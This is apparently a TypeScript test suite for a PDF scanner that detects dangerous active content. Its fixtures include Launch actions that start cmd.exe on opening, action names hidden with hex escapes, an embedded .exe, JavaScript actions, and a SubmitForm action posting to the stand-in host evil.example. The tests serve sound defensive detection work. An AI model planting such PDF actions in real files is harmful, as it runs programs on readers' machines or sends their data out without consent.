import { expect, test } from 'vitest'
import { buildPdf, buildObjectStream } from '../../platform/testing/hostile-files.ts'
import {
  createRandom,
  listScriptPdfs,
  mutateFile,
} from '../../platform/testing/hostile-variants.ts'
import { hasScriptAction } from '../../platform/testing/unpacked-texts.ts'
import { findPdfDanger } from './pdf-actions.ts'

const launch = '<</S/Launch/Win<</F(cmd.exe)>>>>'

test.each([
  ['on opening', buildPdf(`/OpenAction${launch}`)],
  ['by an additional action', buildPdf(`/AA<</WC${launch}>>`)],
  ['in an object of its own', buildPdf('/OpenAction 9 0 R', `9 0 obj${launch}endobj\n`)],
  ['in an object stream', buildPdf('/OpenAction 9 0 R', buildObjectStream(8, launch))],
  ['with its name in code', buildPdf('/OpenAction<</S/L#61unch/F(a.exe)>>')],
  ['with its name elsewhere', buildPdf('/OpenAction<</S 9 0 R>>', '9 0 obj/Launch endobj\n')],
  ['after a comment', buildPdf('/OpenAction<</S%a\n/Launch>>')],
  [
    'inside a stream of another object',
    buildPdf('', `8 0 obj<</Length 60>>stream\n9 0 obj${launch}endobj\nendstream endobj\n`),
  ],
  ['after a string that never ends', buildPdf('', `8 0 obj(\n9 0 obj${launch}endobj\n`)],
])('detects a PDF that starts a program %s', (_, bytes) => {
  expect(findPdfDanger(bytes)).toBe('files.active')
})

test.each([
  ['an embedded file', '/Names<</EmbeddedFiles<</Names[(a.exe)<</EF<</F 9 0 R>>>>]>>>>'],
  ['a form that is sent', '/OpenAction<</S/SubmitForm/F(https://evil.example)>>'],
  ['another file', '/OpenAction<</S/GoToR/F(other.pdf)/D[0/Fit]>>'],
  ['a film', '/OpenAction<</S/Rendition/OP 0>>'],
])('detects a PDF with %s', (_, catalog) => {
  expect(findPdfDanger(buildPdf(catalog))).toBe('files.active')
})

test('reports scripts as such, also those of a form', () => {
  expect(findPdfDanger(buildPdf('/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>'))).toBe(
    'files.scripts',
  )
  expect(findPdfDanger(buildPdf('/AcroForm<</XFA 9 0 R>>'))).toBe('files.scripts')
})

/** Overwrites what marks an object stream, as in a file that a transfer has damaged. */
const damage = (stream: Buffer) =>
  Buffer.from(
    stream.toString('latin1').replace(/ObjStm\/N 1\/First/, 'Obj..../. ./.....'),
    'latin1',
  )

const alertAction = '<</S /JavaScript/JS(app.alert\\(1\\))>>'

test.each([
  ['in a comment', buildPdf('', `%${alertAction}\n`)],
  ['in a string', buildPdf('', `8 0 obj(${alertAction})endobj\n`)],
  ['in a stream without an end', buildPdf('', `8 0 obj<<>>stream\n${alertAction}endobj\n`)],
  ['with its name in code', buildPdf('', `%${alertAction.replace('Java', 'J#61va')}\n`)],
  ['in an object stream', buildPdf('', buildObjectStream(8, `(${alertAction})`))],
  [
    'in an object stream whose object is damaged',
    buildPdf('/OpenAction 9 0 R', damage(buildObjectStream(8, alertAction))),
  ],
  ['as the address of a link', buildPdf('', '8 0 obj<</S/URI/URI (javascript:a\\(\\))>>endobj\n')],
])('finds a script %s, where a lenient reader may find it', (_, bytes) => {
  expect(findPdfDanger(bytes)).toBe('files.scripts')
})

test.each([1, 2, 3])(
  'detects the script of every changed file that still has one, with seed %i',
  (seed) => {
    const random = createRandom(seed)
    const missed = listScriptPdfs().flatMap((bytes) =>
      Array.from({ length: 100 }, () => mutateFile(bytes, random)).filter(
        (changed) => findPdfDanger(changed) === null && hasScriptAction(changed),
      ),
    )
    expect(missed).toEqual([])
  },
)

test('distrusts an object stream with an unusual encoding, or one that is encrypted', () => {
  const oddStream = buildObjectStream(8, launch)
    .toString('latin1')
    .replace('/FlateDecode', '[/ASCIIHexDecode/FlateDecode]')
  expect(findPdfDanger(buildPdf('', Buffer.from(oddStream, 'latin1')))).toBe('files.unreadable')
  expect(
    findPdfDanger(
      Buffer.concat([
        buildPdf('', buildObjectStream(8, '<<>>')),
        Buffer.from('trailer<</Encrypt 7 0 R>>'),
      ]),
    ),
  ).toBe('files.protected')
})

test('accepts links, bookmarks, forms and text that mentions such features', () => {
  expect(
    findPdfDanger(
      buildPdf(
        '/OpenAction[3 0 R/Fit]/AcroForm<</Fields[]>>',
        '7 0 obj<</Title(CSS/JavaScript \\(and /Launch\\))>>endobj\n8 0 obj<</Subtype/Link/A<</S/URI/URI(https://ada.example/Launch)>>>>endobj\n9 0 obj<</S/GoTo/D[3 0 R/Fit]>>endobj\n10 0 obj<</N 3/Filter/FlateDecode/Length 3>>stream\nabc\nendstream endobj\n',
      ),
    ),
  ).toBeNull()
  expect(findPdfDanger(buildPdf('', buildObjectStream(8, '<</Type/Font>>')))).toBeNull()
})
